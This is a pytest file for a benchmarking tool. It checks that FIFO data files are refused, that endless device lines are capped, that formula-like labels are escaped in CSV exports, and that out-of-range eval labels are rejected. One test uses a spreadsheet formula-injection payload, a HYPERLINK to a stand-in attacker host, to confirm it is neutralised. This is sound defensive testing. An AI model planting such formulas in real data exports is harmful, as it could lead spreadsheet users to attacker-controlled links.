"""Issue 25 item 10: a FIFO as --calibration/--eval (or in the calibration folder) is refused,
not read forever; a device line with no newline is capped, not buffered without bound (and not
reported as a stall); labels like `=HYPERLINK(...)` are not formulas in CSV; eval labels outside
the model's classes are refused."""
from __future__ import annotations

import csv
import os
import sys
import time
from pathlib import Path

import numpy as np
import pytest

from edge_bench.config import local_device
from edge_bench.errors import TransportError
from edge_bench.transports import streams
from edge_bench.transports.local import LocalTransport
from test_run_local import REPO, edge_bench

DATA = REPO / "host" / "models" / "builtin" / "data"
FAST = ["--model", "builtin:digits", "--runs", "3", "--warmup", "0", "--min-seconds", "0",
        "--processes", "1", "--no-store"]


@pytest.mark.parametrize("where", ["calibration-file", "calibration-folder", "eval-file"])
def test_fifo_data_is_refused_not_read_forever(tmp_path: Path, where: str) -> None:
    if where == "calibration-folder":
        (tmp_path / "cal").mkdir()
        os.mkfifo(tmp_path / "cal" / "a.npy")
        args = ["--variants", "fp32,int8", "--calibration", "cal"]
    else:
        os.mkfifo(tmp_path / "fifo")
        flag = "--calibration" if where.startswith("calibration") else "--eval"
        args = ["--variants", "fp32,int8" if flag == "--calibration" else "fp32", flag, "fifo"]
    p = edge_bench(["run", *FAST, *args], tmp_path, timeout=120)
    assert p.returncode == 2, p.stdout + p.stderr
    assert "not a regular file" in p.stderr and "Traceback" not in p.stderr


def test_a_line_without_newline_is_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    """A device that streams bytes with no newline: stopped once the cap is passed (with a
    reason), not buffered until the idle timeout calls it a stall."""
    monkeypatch.setattr(streams, "MAX_LINE_BYTES", 1 << 20)
    code = ("import sys, time\nfor _ in range(200):\n    sys.stdout.write('x' * 65536)\n"
            "    sys.stdout.flush()\ntime.sleep(120)\n")
    proc = LocalTransport(local_device()).start([sys.executable, "-c", code])
    t0 = time.monotonic()
    with pytest.raises(TransportError, match="without a newline"):
        for _ in proc.lines(idle_timeout=20):
            pass
    assert time.monotonic() - t0 < 15
    assert proc.wait(timeout=10) != 0            # the command was stopped, not left running


def test_formula_labels_are_text_in_csv(tmp_path: Path) -> None:
    db = str(tmp_path / "s.db")
    label = '=HYPERLINK("http://evil.example/?x","click")'
    p = edge_bench(["run", *FAST[:-1], "--variants", "fp32", "--db", db, "--label", label],
                   tmp_path)
    assert p.returncode == 0, p.stdout + p.stderr
    for args in (["report", "last", "--csv", "r.csv"], ["history", "--csv", "h.csv"]):
        p = edge_bench([*args, "--db", db], tmp_path)
        assert p.returncode == 0, p.stderr
        with open(tmp_path / args[-1], newline="", encoding="utf-8") as f:
            rows = list(csv.DictReader(f))
        assert rows and all(r["label"] == "'" + label for r in rows), rows


@pytest.mark.parametrize("bad", [10, -1, 1000])
def test_eval_labels_outside_the_classes_are_refused(tmp_path: Path, bad: int) -> None:
    ev = np.load(DATA / "digits_eval.npz")
    y = ev["y"].astype(np.int64).copy()
    y[3] = bad
    np.savez(tmp_path / "eval.npz", x=ev["x"], y=y)
    p = edge_bench(["run", *FAST, "--variants", "fp32", "--eval", "eval.npz"], tmp_path)
    assert p.returncode == 2, p.stdout + p.stderr
    assert f"label {bad}" in p.stderr and "0..9" in p.stderr and "Traceback" not in p.stderr
